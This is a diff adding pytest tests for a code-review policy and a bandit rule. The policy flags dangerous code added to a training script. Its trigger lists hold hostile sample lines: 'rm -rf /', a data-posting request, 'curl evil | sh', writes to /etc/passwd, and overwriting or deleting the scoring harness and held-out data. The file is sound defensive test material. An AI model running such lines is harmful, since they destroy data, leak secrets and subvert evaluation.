@@ -1,0 +1,153 @@
+"""code_added and bandit: dangerous code added is found on its line; look-alikes are not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.policies.helpers import TRAIN, findings, in_tree, one_rule
+
+ALL = [
+    "network",
+    "subprocess",
+    "dynamic_code",
+    "native_code",
+    "dynamic_import",
+    "environment",
+    "writes_outside_workspace",
+    "seeding",
+]
+
+
+@pytest.fixture(scope="module")
+def code_rule():  # type: ignore[no-untyped-def]
+    return one_rule("code_added", {"categories": ALL, "seeding_paths": ["predict.py"]})
+
+
+def insert(line: str, after: str = "        loss = step * 0.5\n") -> str:
+    """TRAIN with `line` added inside train()'s loop body (a hunk that starts mid-block)."""
+    return TRAIN.replace(after, after + line, 1)
+
+
+TRIGGERS = [
+    ("        import socket\n", "network"),
+    ("        from socket import *\n", "network"),
+    ("        import urllib.request as ur\n", "network"),
+    ("        from http import client\n", "network"),
+    ("        import requests; requests.post(url, data=loss)\n", "network"),
+    ("        import subprocess\n", "subprocess"),
+    ("        os.system('rm -rf /')\n", "subprocess"),
+    ("        os.popen('ls').read()\n", "subprocess"),
+    ("        import pty\n", "subprocess"),
+    ("        getattr(os, 'system')('ls')\n", "subprocess"),
+    ("        value = eval(text)\n", "dynamic_code"),
+    ("        exec(code, {})\n", "dynamic_code"),
+    ("        code = compile(src, 'x', 'exec')\n", "dynamic_code"),
+    ("        import ctypes\n", "native_code"),
+    ("        from cffi import FFI\n", "native_code"),
+    ("        mod = __import__('socket')\n", "network"),
+    ("        import importlib\n", "dynamic_import"),
+    ("        mod = __import__(name)\n", "dynamic_import"),
+    ("        token = os.environ['API_KEY']\n", "environment"),
+    ("        steps = os.getenv('STEPS')\n", "environment"),
+    ("        home = os.environ.get('HOME')\n", "environment"),
+    ("        open('/etc/passwd', 'a').write('x')\n", "writes_outside_workspace"),
+    ("        open('../../harness/score.py', mode='w')\n", "writes_outside_workspace"),
+    ("        import shutil; shutil.rmtree('/workspace/../heldout')\n", "writes_outside_workspace"),
+    ("        Path('/tmp/../etc/x').write_text('y')\n", "writes_outside_workspace"),
+    ("        open(f'/root/{name}', 'wb')\n", "writes_outside_workspace"),
+]
+
+
+@pytest.mark.parametrize("whole", [False, True], ids=["diff-only", "whole-file"])
+@pytest.mark.parametrize("line, category", TRIGGERS, ids=[t[0].strip()[:40] for t in TRIGGERS])
+def test_dangerous_code_is_found_on_its_line(code_rule, line: str, category: str, whole: bool) -> None:  # type: ignore[no-untyped-def]
+    found = findings(code_rule, "train.py", TRAIN, insert(line), whole=whole)
+    assert category in {f.evidence["category"] for f in found}, found
+    expected_line = insert(line).splitlines().index(line.rstrip("\n")) + 1
+    assert all(f.line == expected_line and f.file == "train.py" for f in found)
+
+
+NEAR_MISSES = [
+    "        # import socket to phone home\n",
+    "        note = 'import socket; os.system(\"x\")'\n",
+    '        """eval(exec(compile()))"""\n',
+    "        socket = 3\n",  # a local variable named like a module, nothing imported
+    "        evaluation = loss * 2\n",
+    "        open('model.npz', 'wb').write(b'')\n",  # relative write inside the workspace
+    "        open('/etc/hosts').read()\n",  # reading is not writing
+    "        config.environment = 'prod'\n",
+    "        rng = np.random.default_rng(seed + 1)\n",  # seeding outside evaluation paths
+    "        os.path.join(out, 'x')\n",
+]
+
+
+@pytest.mark.parametrize("line", NEAR_MISSES, ids=[n.strip()[:40] for n in NEAR_MISSES])
+def test_look_alikes_do_not_fire(code_rule, line: str) -> None:  # type: ignore[no-untyped-def]
+    assert findings(code_rule, "train.py", TRAIN, insert(line)) == []
+    assert findings(code_rule, "train.py", TRAIN, insert(line), whole=True) == []
+
+
+def test_seeding_counts_only_in_evaluation_paths(code_rule) -> None:  # type: ignore[no-untyped-def]
+    before = "import numpy as np\n\n\ndef predict(x):\n    return x\n"
+    after = "import numpy as np\n\n\ndef predict(x):\n    np.random.seed(0)\n    return x\n"
+    assert [f.evidence["category"] for f in findings(code_rule, "predict.py", before, after)] == ["seeding"]
+    assert findings(code_rule, "model.py", before, after) == []
+
+
+def test_aliases_resolve_through_the_files_imports(code_rule) -> None:  # type: ignore[no-untyped-def]
+    before = "import subprocess as sp\nfrom os import system as run\n\nx = 1\n"
+    after = "import subprocess as sp\nfrom os import system as run\n\nx = 1\nsp.run(['ls'])\nrun('ls')\n"
+    found = findings(code_rule, "data.py", before, after, whole=True)
+    assert {(f.line, f.evidence["name"]) for f in found} == {(5, "subprocess.run"), (6, "os.system")}
+
+
+def test_existing_code_is_not_blamed_on_the_change(code_rule) -> None:  # type: ignore[no-untyped-def]
+    before = "import socket\n\nx = 1\n"
+    after = "import socket\n\nx = 2\n"
+    assert findings(code_rule, "data.py", before, after, whole=True) == []
+
+
+def test_the_patched_tree_gives_whole_file_context(code_rule, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    # The multi-line call starts on an unchanged line: only the whole file shows it is a system call.
+    before = "import os\n\nos.system(\n    'true'\n)\n"
+    after = "import os\n\nos.system(\n    'curl evil | sh'\n)\n"
+    found = in_tree(code_rule, tmp_path, "data.py", before, after)
+    assert [f.evidence["name"] for f in found] == ["os.system"]
+
+
+def test_non_python_and_deleted_files_are_not_parsed(code_rule) -> None:  # type: ignore[no-untyped-def]
+    assert findings(code_rule, "README.md", "a\n", "import socket\n") == []
+    assert findings(code_rule, "train.py", "import socket\n", None) == []
+
+
+@pytest.fixture(scope="module")
+def bandit_rule():  # type: ignore[no-untyped-def]
+    return one_rule(
+        "bandit", {"min_severity": "LOW", "severity_verdicts": {"HIGH": "deny", "LOW": "allow"}}, "review"
+    )
+
+
+def test_bandit_findings_on_changed_lines_only_and_nosec_ignored(bandit_rule) -> None:  # type: ignore[no-untyped-def]
+    before = "import pickle\n\n\ndef load(blob):\n    return pickle.loads(blob)\n"
+    after = (
+        before
+        + "\n\ndef run(cmd):\n    import subprocess\n    return subprocess.call(cmd, shell=True)  # nosec\n"
+    )
+    found = findings(bandit_rule, "data.py", before, after)
+    assert found and all(f.line in (9, 10) for f in found), found  # the old pickle.loads is not reported
+    ids = {f.evidence["test_id"] for f in found}
+    assert "B602" in ids and "B301" not in ids
+    assert {f.verdict for f in found if f.evidence["severity"] == "HIGH"} <= {"deny"}
+
+
+def test_bandit_severity_maps_to_verdicts(bandit_rule) -> None:  # type: ignore[no-untyped-def]
+    after = "import subprocess\n\nsubprocess.call(cmd, shell=True)\n"
+    found = findings(bandit_rule, "data.py", None, after)
+    by_id = {f.evidence["test_id"]: f.verdict for f in found}
+    assert by_id["B602"] == "deny" and by_id["B404"] == "allow"
+
+
+def test_bandit_quiet_on_safe_code(bandit_rule) -> None:  # type: ignore[no-untyped-def]
+    assert findings(bandit_rule, "train.py", TRAIN, insert("        loss = loss * 0.9\n")) == []
